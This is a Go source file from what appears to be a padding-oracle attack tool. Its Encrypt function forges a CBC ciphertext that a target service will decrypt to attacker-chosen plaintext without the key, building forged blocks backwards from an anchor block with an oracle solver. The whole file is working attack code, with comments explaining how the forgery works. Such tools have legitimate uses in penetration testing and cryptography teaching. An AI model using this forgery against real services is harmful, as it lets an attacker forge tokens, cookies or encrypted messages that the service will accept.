package attack

import (
	"context"

	log "github.com/sirupsen/logrus"

	"github.com/nzkv/pado/blocks"
	"github.com/nzkv/pado/pkcs7"
)

// Encrypt forges a ciphertext that the oracle's service decrypts to plain,
// without knowing the key. The final block of ct is reused as the anchor the
// forgery terminates in; from there the chain is built backwards, each forged
// predecessor being the XOR of a plaintext block with the intermediate state
// of the block to its right. Unlike decryption the chain is inherently
// sequential, but each intermediate recovery still fans out over candidate
// bytes.
func (e *Engine) Encrypt(ctx context.Context, ct *blocks.Ciphertext, plain []byte) ([]byte, error) {
	blockSize := ct.BlockSize()
	padded := pkcs7.Pad(append([]byte(nil), plain...), blockSize)
	amount := len(padded) / blockSize

	e.bytesDone.Store(0)
	e.bytesTotal.Store(int64(len(padded)))

	if !ct.HasIV() {
		log.Warnf("without an IV the decrypting service derives the first plaintext block " +
			"from a null IV; the forgery's leftmost block is only honored if the service " +
			"treats it as the IV")
	}

	anchor := ct.Block(ct.AmountBlocks() - 1)
	forgery := make([]byte, (amount+1)*blockSize)
	copy(forgery[amount*blockSize:], anchor)

	right := anchor
	for k := amount - 1; k >= 0; k-- {
		intermediate, err := e.solveBlock(ctx, right, k)
		if err != nil {
			if flushErr := e.cache.Flush(); flushErr != nil {
				log.Errorf("cache flush failed: %v", flushErr)
			}
			if ctx.Err() != nil {
				return nil, ErrCancelled
			}
			return nil, err
		}

		right = blocks.XOR(padded[k*blockSize:(k+1)*blockSize], intermediate)
		copy(forgery[k*blockSize:], right)
		log.Debugf("plaintext block %d: forged predecessor ready", k)
	}

	if err := e.cache.Flush(); err != nil {
		log.Errorf("cache flush failed: %v", err)
	}
	return forgery, nil
}
